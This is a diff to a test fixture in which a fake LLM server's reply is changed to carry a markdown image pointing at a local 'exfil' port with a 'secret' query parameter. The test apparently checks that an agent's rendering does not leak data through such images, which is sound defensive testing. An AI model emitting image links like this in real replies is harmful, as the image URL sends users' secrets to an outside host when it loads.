@@ -434,7 +434,8 @@ def served_markup_llm(demo_pack: Pack) -> Iterator[Served]:
     from tests.fixtures.fake_llm import FakeLLMServer
 
     with FakeLLMServer("faithful") as fake:
-        fake.extra = MARKUP + "."  # a whole sentence: a reply cut off is never shown
+        # One image: three addresses in a row read as a loop, and a loop is never shown.
+        fake.extra = f" ![pixel](http://127.0.0.1:{EXFIL_PORT}/p.png?d=secret) www.example.org."
         yield from _serve(ParleyAgent(demo_pack, llm=OpenAICompatibleLLM(fake.url)))
 
 
